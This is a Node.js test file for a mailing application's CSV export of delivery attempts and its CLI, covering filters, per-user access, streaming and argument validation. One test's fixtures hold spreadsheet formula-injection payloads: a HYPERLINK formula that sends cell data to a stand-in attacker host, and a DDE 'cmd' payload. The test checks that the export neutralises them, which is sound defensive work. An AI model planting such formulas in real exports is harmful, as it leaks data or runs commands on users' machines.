import assert from 'node:assert/strict';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { ensureAdmin, signedIn } from '../../../test/support/accounts.ts';
import { createTestApp, type TestApp } from '../../../test/support/app.ts';
import { insertBulkAttempts, insertMailing, insertMailingWithAttempts } from '../../../test/support/attempt-fixtures.ts';
import { executeCommand } from '../../cli/commands.ts';
import { exportAttemptsCsv } from './attempts.csv.ts';
import { exportThroughTemporaryFile } from './stats.cli.ts';
import type { AttemptExportRow } from './stats.repository.ts';

const HEADER = 'attempted_at,mailing_id,mailing,run_id,recipient,name,result,code,response,duration_ms,server';
const at = (iso: string) => new Date(iso);

let t: TestApp;
let workDir: string;
before(async () => {
  t = await createTestApp({ devMailbox: true });
  await ensureAdmin(t);
  workDir = mkdtempSync(path.join(os.tmpdir(), 'herald-export-test-'));
});
after(async () => {
  await t.close();
  rmSync(workDir, { recursive: true, force: true });
});

/** CSV text as records (the BOM dropped), header first. */
const records = (text: string): string[][] => parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true });

/** A user with a mailing of three deliveries: one sent at once, one after a 4xx, one refused with a 5xx. */
async function userWithAttempts(name = 'Spring news') {
  const { user, agent } = await signedIn(t);
  const { mailingId, runId } = await insertMailingWithAttempts(t.c, user.id, {
    name,
    deliveries: [
      {
        email: 'ok@example.com',
        fullName: 'Olga Ok',
        state: 'sent',
        attempts: [{ at: at('2026-03-01T10:00:00Z'), success: true }],
      },
      {
        email: 'retry@example.com',
        fullName: 'Rita Retry',
        state: 'sent',
        attempts: [
          { at: at('2026-03-01T10:00:01Z'), success: false, code: 451, response: '451 4.7.1 Try again later' },
          { at: at('2026-03-02T09:00:00Z'), success: true },
        ],
      },
      {
        email: 'gone@example.com',
        fullName: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        state: 'failed',
        attempts: [{ at: at('2026-03-03T08:00:00Z'), success: false, code: 550, response: '-550 5.1.1 +no such user @once' }],
      },
    ],
  });
  return { user, agent, mailingId, runId };
}

describe('GET /attempts/export.csv', () => {
  test('a header, then the user’s attempts oldest first, with a download name and no caching', async () => {
    const { agent, mailingId, runId } = await userWithAttempts();
    const response = await agent.get('/attempts/export.csv');
    assert.equal(response.statusCode, 200);
    assert.match(String(response.headers['content-type']), /^text\/csv/);
    assert.match(String(response.headers['content-disposition']), /attachment; filename="attempts.csv"/);
    assert.equal(response.headers['cache-control'], 'private, no-store');
    const rows = records(response.body);
    assert.equal(rows[0]?.join(','), HEADER, 'no owner column in a user’s own export');
    assert.equal(rows.length, 5);
    assert.deepEqual(rows[1], [
      '2026-03-01T10:00:00.000Z',
      String(mailingId),
      'Spring news',
      String(runId),
      'ok@example.com',
      'Olga Ok',
      'success',
      '250',
      '250 OK',
      '12',
      'smtp.example.com',
    ]);
    assert.deepEqual(
      rows.slice(1).map((r) => [r[4], r[6], r[7]]),
      [
        ['ok@example.com', 'success', '250'],
        ['retry@example.com', 'failure', '451'],
        ['retry@example.com', 'success', '250'],
        ['gone@example.com', 'failure', '550'],
      ],
    );
  });

  test('cells a spreadsheet would run as formulas are disarmed with a leading quote', async () => {
    const { agent } = await userWithAttempts('=cmd|" /C calc"!A0');
    const rows = records((await agent.get('/attempts/export.csv?status=failure&from=2026-03-03')).body);
    assert.equal(rows.length, 2);
    const [row] = rows.slice(1);
    assert.equal(row?.[2], `'=cmd|" /C calc"!A0`, 'the mailing name');
    assert.equal(row?.[5], `'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`, 'the recipient’s name');
    assert.equal(row?.[8], `'-550 5.1.1 +no such user @once`, 'the server’s reply');
    for (const cell of row ?? []) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${cell}`);
  });

  test('the page’s filters narrow the rows: mailing, run, result, and days (both ends included)', async () => {
    const { user, agent, mailingId, runId } = await userWithAttempts();
    await insertMailingWithAttempts(t.c, user.id, {
      name: 'Another mailing',
      deliveries: [{ email: 'else@example.com', state: 'sent', attempts: [{ at: at('2026-03-02T12:00:00Z'), success: true }] }],
    });
    const emails = async (query: string) =>
      records((await agent.get(`/attempts/export.csv?${query}`)).body)
        .slice(1)
        .map((r) => `${r[4]}:${r[6]}`);
    assert.equal((await emails('')).length, 5);
    assert.deepEqual(await emails(`mailingId=${mailingId}&status=success`), [
      'ok@example.com:success',
      'retry@example.com:success',
    ]);
    assert.deepEqual(await emails(`runId=${runId}&status=failure`), ['retry@example.com:failure', 'gone@example.com:failure']);
    assert.deepEqual(await emails('from=2026-03-02&to=2026-03-02'), ['retry@example.com:success', 'else@example.com:success']);
    // Values the page would ignore are ignored here too: the whole export, not an error.
    assert.equal((await emails('mailingId=abc&status=maybe&from=2026-02-30&to=yesterday')).length, 5);
    // The export link of the attempts page carries its filters.
    const page = await agent.get(`/attempts?mailingId=${mailingId}&status=failure`);
    assert.match(page.body, new RegExp(`href="/attempts/export.csv\\?mailingId=${mailingId}&amp;status=failure"`));
  });

  test('another user’s mailing or run id yields a header and nothing of theirs', async () => {
    const { mailingId, runId } = await userWithAttempts('Not yours');
    const { agent: other } = await signedIn(t);
    for (const query of [`mailingId=${mailingId}`, `runId=${runId}`, '']) {
      const response = await other.get(`/attempts/export.csv?${query}`);
      assert.equal(response.statusCode, 200);
      assert.deepEqual(records(response.body), [HEADER.split(',')], query);
      assert.doesNotMatch(response.body, /Not yours/);
    }
    const anonymous = await t.app.inject({ method: 'GET', url: '/attempts/export.csv' });
    assert.equal(anonymous.statusCode, 303);
  });

  test('a manager’s export holds everyone’s attempts with an owner column', async () => {
    const { user, mailingId } = await userWithAttempts('Watched by a manager');
    const { agent: manager } = await signedIn(t, { role: 'manager' });
    const rows = records((await manager.get(`/attempts/export.csv?mailingId=${mailingId}`)).body);
    assert.equal(rows[0]?.join(','), `${HEADER},owner`);
    assert.equal(rows.length, 5);
    assert.ok(rows.slice(1).every((r) => r[11] === user.email));
  });

  test('10,000 attempts stream out in full, chunked, without a length known in advance', { timeout: 120_000 }, async () => {
    const { user, agent } = await signedIn(t);
    const mailingId = await insertMailing(t.c, user.id, 'Big one');
    await insertBulkAttempts(t.c, mailingId, 10_000, at('2026-04-01T10:00:00Z'));
    const response = await agent.get('/attempts/export.csv');
    assert.equal(response.statusCode, 200);
    assert.equal(response.headers['content-length'], undefined, 'a stream, not a buffered body');
    assert.equal(response.headers['transfer-encoding'], 'chunked');
    const lines = response.body.trimEnd().split('\n');
    assert.equal(lines.length, 10_001);
    const ids = new Set(lines.slice(1).map((line) => line.split(',')[4]));
    assert.equal(ids.size, 10_000, 'every delivery once');
  });
});

describe('exportAttemptsCsv', () => {
  const row = (id: number): AttemptExportRow => ({
    id,
    attemptedAt: new Date('2026-01-01T00:00:00Z'),
    mailingId: 1,
    mailingName: 'M',
    runId: 1,
    email: `r${id}@example.com`,
    fullName: 'R'.repeat(200),
    success: true,
    code: 250,
    response: '250 OK',
    durationMs: 1,
    server: 's',
    ownerEmail: 'o@example.com',
  });

  test('pulls the next batch only once the reader has taken the text: a large export is never held whole', async () => {
    let pulled = 0;
    async function* batches() {
      for (let b = 0; b < 50; b++) {
        pulled++;
        yield Array.from({ length: 1000 }, (_, i) => row(b * 1000 + i));
      }
    }
    const stream = exportAttemptsCsv(batches(), false);
    await once(stream, 'readable');
    // Give the producer every chance to run ahead: it must be waiting for the reader, not done.
    for (let i = 0; i < 20; i++) await new Promise((resolve) => setImmediate(resolve));
    assert.ok(pulled <= 2, `only the first batches are read while nobody reads the text (pulled ${pulled} of 50)`);
    let text = '';
    for await (const chunk of stream) text += (chunk as Buffer).toString('utf8');
    assert.match(text, /^\uFEFFattempted_at,/);
    const lines = text.split('\n').length - 1;
    assert.equal(pulled, 50);
    assert.equal(lines, 50_001);
  });

  test('stops reading batches when the reader goes away', async () => {
    let pulled = 0;
    let finished = false;
    async function* batches() {
      try {
        for (let b = 0; b < 50; b++) {
          pulled++;
          yield Array.from({ length: 1000 }, (_, i) => row(b * 1000 + i));
        }
      } finally {
        finished = true;
      }
    }
    const stream = exportAttemptsCsv(batches(), false);
    await new Promise((resolve) => stream.once('data', resolve));
    const closed = new Promise((resolve) => stream.once('close', resolve));
    stream.destroy();
    await closed;
    await new Promise((resolve) => setImmediate(resolve));
    assert.ok(finished, 'the batches were closed (the database is asked no more)');
    assert.ok(pulled < 50);
  });
});

describe('herald export-attempts and herald stats (executeCommand)', () => {
  test('--owner writes that user’s attempts only; without it, everyone’s with the owner column', async () => {
    const { user, mailingId } = await userWithAttempts('CLI export');
    const file = path.join(workDir, 'mine.csv');
    const mine = await executeCommand(t.c, { name: 'export-attempts', owner: user.email, status: 'failure', output: file });
    assert.equal(mine.code, 0, mine.output);
    assert.equal(mine.output, `2 attempts of ${user.email} written to ${file}.`);
    const rows = records(readFileSync(file, 'utf8'));
    assert.equal(rows[0]?.join(','), HEADER);
    assert.deepEqual(
      rows.slice(1).map((r) => r[4]),
      ['retry@example.com', 'gone@example.com'],
    );

    const { user: other } = await signedIn(t);
    const theirs = path.join(workDir, 'theirs.csv');
    const none = await executeCommand(t.c, {
      name: 'export-attempts',
      owner: other.email,
      mailingId: String(mailingId),
      output: theirs,
    });
    assert.equal(none.code, 0);
    assert.deepEqual(records(readFileSync(theirs, 'utf8')), [HEADER.split(',')], 'another owner’s mailing id gives nothing');

    const everyone = path.join(workDir, 'everyone.csv');
    const all = await executeCommand(t.c, { name: 'export-attempts', mailingId: String(mailingId), output: everyone });
    assert.equal(all.code, 0);
    const allRows = records(readFileSync(everyone, 'utf8'));
    assert.equal(allRows[0]?.join(','), `${HEADER},owner`);
    assert.equal(allRows.length, 5);
  });

  test('without --output the CSV goes through a private temporary file to stdout, which is removed', async () => {
    const { user } = await userWithAttempts();
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (chunk: Buffer) => chunks.push(chunk));
    let used = '';
    const result = await exportThroughTemporaryFile((file) => {
      used = file;
      return executeCommand(t.c, { name: 'export-attempts', owner: user.email, output: file });
    }, out);
    assert.equal(result.code, 0);
    assert.equal(records(Buffer.concat(chunks).toString('utf8')).length, 5);
    assert.equal(existsSync(used), false, 'the temporary file is gone');
  });

  test('bad arguments: a clear message, exit code 1, and no file written', async () => {
    const { user } = await userWithAttempts();
    const cases: [Record<string, string>, RegExp][] = [
      [{ mailingId: 'abc' }, /mailingId: Mailing id must be a number/],
      [{ runId: '-4' }, /runId: Run id must be a positive number/],
      [{ status: 'maybe' }, /status: Status must be success or failure/],
      [{ from: '2026-02-30' }, /from: From is not a real date/],
      [{ to: '03/01/2026' }, /to: To must be a date as YYYY-MM-DD/],
      [{ from: '2026-03-05', to: '2026-03-01' }, /from: From must not be after To/],
      [{ owner: 'nobody-here@example.com' }, /No user has the e-mail nobody-here@example.com/],
      [{ owner: 'not an address' }, /Enter a valid e-mail address/],
    ];
    for (const [options, message] of cases) {
      const file = path.join(workDir, 'refused.csv');
      const result = await executeCommand(t.c, { name: 'export-attempts', ...options, output: file });
      assert.equal(result.code, 1, JSON.stringify(options));
      assert.match(result.output, message);
      assert.equal(existsSync(file), false, `nothing written for ${JSON.stringify(options)}`);
    }
    const missingDir = path.join(workDir, 'no-such-dir', 'a.csv');
    const unwritable = await executeCommand(t.c, { name: 'export-attempts', owner: user.email, output: missingDir });
    assert.equal(unwritable.code, 1);
    assert.match(unwritable.output, /cannot write .*no-such-dir/);
  });

  test('herald stats prints one owner’s figures, or everyone’s with a line per user', async () => {
    const { user } = await userWithAttempts('Counted in the CLI');
    const own = await executeCommand(t.c, { name: 'stats', owner: user.email });
    assert.equal(own.code, 0);
    assert.match(own.output, new RegExp(`Statistics of ${user.email}:`));
    assert.match(own.output, /successful attempts {2}2\n {2}failed attempts {6}2\n {2}messages sent {8}2/);
    assert.match(own.output, /Counted in the CLI .*: 2 \/ 2 \/ 2/);
    assert.match(own.output, /Attempts per day, last 30 days \(UTC\)/);

    const all = await executeCommand(t.c, { name: 'stats' });
    assert.equal(all.code, 0);
    assert.match(all.output, /Statistics of everyone:/);
    assert.match(all.output, new RegExp(`${user.email.replace(/[.]/g, '\\.')} \\(user\\): 2 / 2 / 2`));

    const unknown = await executeCommand(t.c, { name: 'stats', owner: 'ghost@example.com' });
    assert.equal(unknown.code, 1);
    assert.match(unknown.output, /No user has the e-mail ghost@example.com/);
  });
});
